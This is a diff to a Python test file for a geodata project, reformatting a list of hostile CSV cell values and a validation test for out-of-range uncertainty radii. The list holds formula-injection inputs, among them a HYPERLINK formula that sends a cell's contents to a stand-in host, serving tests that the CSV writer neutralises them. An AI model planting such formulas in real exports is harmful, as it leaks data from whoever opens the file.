@@ -199,7 +199,7 @@ def test_the_session_keeps_only_the_mapped_columns(tmp_path):
 # --- one CSV writer for everything the project writes ------------------------------------------------
 
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+1",
     "-2+3",
     "@SUM(1,2)",
@@ -326,7 +326,13 @@ def test_a_count_of_thousands_of_digits_in_csv_is_rejected_not_a_crash(sources):
 def test_the_data_validation_applies_the_same_bounds(sources):
     """geo.schema.row_problems (the bundled data's check, `python -m geo validate`) says the same."""
     spec = upload.UPLOAD_SPEC
-    base = {**VALID, "source_ids": ["S1"], "geometry": Point(129.5076, 42.887), "uncertainty_m": 10_000, "date_precision": "day"}
+    base = {
+        **VALID,
+        "source_ids": ["S1"],
+        "geometry": Point(129.5076, 42.887),
+        "uncertainty_m": 10_000,
+        "date_precision": "day",
+    }
     known = set(sources["id"])
     assert row_problems(base, spec, known) == []
     for radius in (1e29, 1e308, float("inf"), 10**400, 1_000_001):
